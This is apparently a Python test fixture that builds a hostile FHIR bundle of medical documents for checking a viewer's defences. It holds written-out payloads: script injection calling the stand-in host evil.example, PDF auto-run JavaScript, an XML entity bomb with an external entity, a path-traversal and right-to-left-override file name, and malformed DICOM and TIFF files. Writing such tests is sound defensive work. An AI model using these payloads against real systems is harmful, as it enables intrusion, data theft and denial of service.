"""Documents that try to run, to reach the network, or to use up the machine, in a bundle that tries too.

with served(bundle=hostile_bundle()) as link: ...
"""

import base64
import io
from typing import Any, Final

import pydicom
from pypdf import PdfWriter
from pypdf.annotations import Link
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from tests.e2e import samples

EVIL: Final = "https://evil.example"
RUN: Final = f"document.title='taken';fetch('{EVIL}/');new Image().src='{EVIL}/i'"


def hostile_bundle() -> dict[str, Any]:
    """Titles: page, drawing, letter, scan, report, bomb, fax."""
    narrative = {"status": "generated", "div": f"<div><script>{RUN}</script><img src='{EVIL}/n'/></div>"}
    documents = [
        ("page", "text/html", f'<html><body onload="{RUN}"><script>{RUN}</script></body></html>'.encode()),
        ("drawing", "image/svg+xml", _svg()),
        ("letter", "application/pdf", _pdf()),
        ("scan", "application/dicom", _dicom()),
        ("report", "text/xml", _cda()),
        ("bomb", "text/xml", _entities()),
        ("fax", "image/tiff", _tiff()),
    ]
    entries = [
        {"resource": {"resourceType": "Patient", "text": narrative, "name": [{"text": f"<b>{RUN}</b>"}]}},
        {
            "resource": {
                "resourceType": "DocumentReference",
                "content": [{"attachment": {"url": f"{EVIL}/u"}}],
            }
        },
        *({"resource": _reference(*document)} for document in documents),
    ]
    return {"resourceType": "Bundle", "type": "collection", "text": narrative, "entry": entries}


def _reference(title: str, mime: str, data: bytes) -> dict[str, Any]:
    attachment = {
        "contentType": mime,
        "data": base64.b64encode(data).decode(),
        "title": f"../../{title}\u202ephp.exe",
        "url": f"{EVIL}/{title}",
    }
    description = f'{title} <img src=x onerror="{RUN}">'
    return {
        "resourceType": "DocumentReference",
        "description": description,
        "content": [{"attachment": attachment}],
    }


def _svg() -> bytes:
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script>'
        f'<image href="{EVIL}/svg"/><foreignObject><iframe src="{EVIL}/f"/></foreignObject></svg>'
    ).encode()


def _pdf() -> bytes:
    """A page that runs a script and goes to an address as it is opened, and is a link all over."""
    writer = PdfWriter()
    page = writer.add_blank_page(400, 400)
    writer.root_object[NameObject("/OpenAction")] = _action("/JavaScript", "/JS", RUN)
    going = _action("/URI", "/URI", f"{EVIL}/pdf")
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): going})
    writer.add_annotation(0, Link(rect=(0, 0, 400, 400), url=f"{EVIL}/link"))
    file = io.BytesIO()
    writer.write(file)
    return file.getvalue()


def _action(kind: str, name: str, value: str) -> DictionaryObject:
    return DictionaryObject({NameObject("/S"): NameObject(kind), NameObject(name): TextStringObject(value)})


def _dicom() -> bytes:
    """A slice that says that it has four billion pixels."""
    image = pydicom.dcmread(io.BytesIO(samples.dicom()))
    image.Rows = image.Columns = 65_535
    file = io.BytesIO()
    image.save_as(file)
    return file.getvalue()


def _cda() -> bytes:
    """A clinical document with a stylesheet, scripts, addresses and pictures from elsewhere."""
    return (
        f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{EVIL}/style.xsl"?>'
        '<ClinicalDocument xmlns="urn:hl7-org:v3" xmlns:h="http://www.w3.org/1999/xhtml">'
        f"<title>Report &lt;script&gt;{RUN}&lt;/script&gt;</title>"
        "<component><structuredBody><component><section>"
        f'<text><h:script>{RUN}</h:script><script>{RUN}</script><h:img src="{EVIL}/h" onerror="{RUN}"/>'
        f'<img src="{EVIL}/cda"/><iframe src="{EVIL}/f"/><linkHtml href="javascript:{RUN}">here</linkHtml>'
        f'<renderMultiMedia referencedObject="m"/><paragraph onclick="{RUN}">Result: normal.</paragraph>'
        "</text>"
        f'<entry><observationMedia ID="m"><value mediaType="image/png"><reference value="{EVIL}/m"/></value>'
        "</observationMedia></entry></section></component></structuredBody></component></ClinicalDocument>"
    ).encode()


def _entities() -> bytes:
    """A clinical document of a few lines that would be gigabytes, and asks for a file."""
    grow = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return (
        f'<!DOCTYPE ClinicalDocument [<!ENTITY a0 "bomb">{grow}<!ENTITY x SYSTEM "{EVIL}/x">]>'
        '<ClinicalDocument xmlns="urn:hl7-org:v3"><title>&a9;&x;</title></ClinicalDocument>'
    ).encode()


def _tiff() -> bytes:
    """Pages that lead in a circle."""
    entry = b"\x00\x01\x04\x00\x01\x00\x00\x00\x08\x00\x00\x00"
    return b"II*\x00\x08\x00\x00\x00\x01\x00" + entry + b"\x08\x00\x00\x00"
